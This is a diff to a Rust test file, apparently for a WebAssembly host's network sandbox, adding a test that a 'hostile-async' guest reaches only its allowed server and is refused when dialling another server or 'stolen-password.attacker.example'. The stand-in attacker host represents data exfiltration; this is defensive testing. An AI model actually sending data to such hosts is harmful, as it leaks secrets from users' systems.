@@ -1,7 +1,7 @@
 //! Apps that may reach servers, by sockets: what they get, and no more than that.
 
 use crate::{beside_others, hostile, launch};
-use dapr_wasm_tests::{Host, PATIENCE, until};
+use dapr_wasm_tests::{Host, Launch, PATIENCE, until};
 use std::io::{ErrorKind, Read as _};
 use std::net::{TcpListener, UdpSocket};
 use std::thread;
@@ -84,6 +84,25 @@ fn a_name_that_is_not_listed_is_not_looked_up() {
         line.contains("`stolen-password.attacker.example`") && line.contains("in [app]"),
         "{line}"
     );
+}
+
+#[test]
+fn an_app_of_wasi_0_3_has_the_sockets_of_0_2() {
+    let _machine = beside_others();
+    let (server, other) = (Server::start(), Server::start());
+    let host = Launch::guest("hostile-async").components(&format!("[app]\n{}", server.allowed()));
+    let host = host.start();
+    let dial = |address: &str| said(&host, &format!("/dial/{address}"));
+    thread::scope(|scope| {
+        let dialled: Vec<_> = (0..8).map(|_| scope.spawn(|| dial(&server.address))).collect();
+        dialled
+            .into_iter()
+            .for_each(|dialled| assert_eq!(dialled.join().unwrap(), "connected"));
+    });
+    assert_eq!(server.reached(), 8);
+    assert_refused(&dial(&other.address));
+    assert_refused(&dial("stolen-password.attacker.example:1"));
+    assert_eq!(other.reached(), 0);
 }
 
 /// Also where there are sockets, and the very address is listed.
